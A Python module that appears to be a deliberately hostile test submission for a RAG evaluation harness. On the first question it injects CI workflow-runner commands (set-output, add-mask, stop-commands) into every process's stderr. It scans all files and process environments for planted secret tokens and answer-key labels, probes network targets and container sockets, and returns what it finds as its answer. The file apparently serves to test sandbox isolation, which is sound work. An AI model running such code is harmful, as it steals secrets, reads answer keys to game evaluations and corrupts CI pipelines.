"""A pipeline that looks for everything it should not see, and shouts what it should not say. It runs inside collect."""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

TOKEN = re.compile(rb"planted-[0-9a-f]{32}")
LABEL = re.compile(rb"[l]abel-reference")
SOCKETS = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock")
SKIPPED = ("/proc", "/sys", "/usr/lib", "/usr/share", "/opt/rag-assay")
LARGEST = 5_000_000
SHOUTED = (
    "::set-output name=outcome::from-the-pipeline",
    "::add-mask::a",
    "a\r::error::from-the-pipeline",
    "##[error]from-the-pipeline",
    "x ##[add-mask]a",
    "::stop-commands::x",
    "\u2028::error::from-the-pipeline",
)


def answer(question: str) -> dict[str, Any]:
    """What was found, for the first question; nothing for the others."""
    if not question.endswith("0?"):
        return {"retrieved": [], "answer": "{}"}
    shout()
    return {"retrieved": [], "answer": json.dumps(look())}


def shout() -> None:
    """Print commands of the workflow runner, also past our own process: into every stream that can be opened."""
    for line in SHOUTED:
        sys.stdout.write(f"{line}\n")
        sys.stdout.flush()
        for process in processes():
            with contextlib.suppress(OSError), (process / "fd" / "2").open("w") as stream:
                stream.write(f"{line}\n")


def look() -> dict[str, Any]:
    """Everything that is within reach."""
    tokens, labels = {}, {}
    for path in everywhere():
        data = read(path)
        tokens.update(dict.fromkeys(map(bytes.decode, TOKEN.findall(data)), str(path)))
        labels.update(dict.fromkeys(map(bytes.decode, LABEL.findall(data)), str(path)))
    targets = json.loads(Path("targets.json").read_text())
    return {
        "tokens": tokens,
        "labels": labels,
        "connected": [address for address, port in targets if reach(address, port)],
        "sockets": [path for path in SOCKETS if Path(path).exists()],
        "environment": sorted(os.environ),
        "user": os.getuid(),
        "git": [str(path) for path in below("/work") if ".git" in path.parts],
        "writable": [path for path in ("/etc", "/opt", "/deps", "/usr/local/bin") if os.access(path, os.W_OK)],
    }


def everywhere() -> Iterator[Path]:
    """What the kernel says of every process, and every file."""
    for process in processes():
        yield from (process / name for name in ("environ", "cmdline", "mountinfo"))
    yield from below("/")


def processes() -> list[Path]:
    """The folder of every process."""
    return [path for path in Path("/proc").iterdir() if path.name.isdigit()]


def below(top: str) -> Iterator[Path]:
    """The files below a folder; not those of Python and the system."""
    for folder, folders, names in os.walk(top):
        folders[:] = [name for name in folders if not str(Path(folder, name)).startswith(SKIPPED)]
        yield from (Path(folder, name) for name in names)


def read(path: Path) -> bytes:
    """The beginning of a file, if it is one and may be read."""
    with contextlib.suppress(OSError):
        if path.is_file():
            with path.open("rb") as file:
                return file.read(LARGEST)
    return b""


def reach(address: str, port: int) -> bool:
    """Whether anything answers there."""
    with contextlib.suppress(OSError):
        socket.create_connection((address, port), timeout=2).close()
        return True
    return False
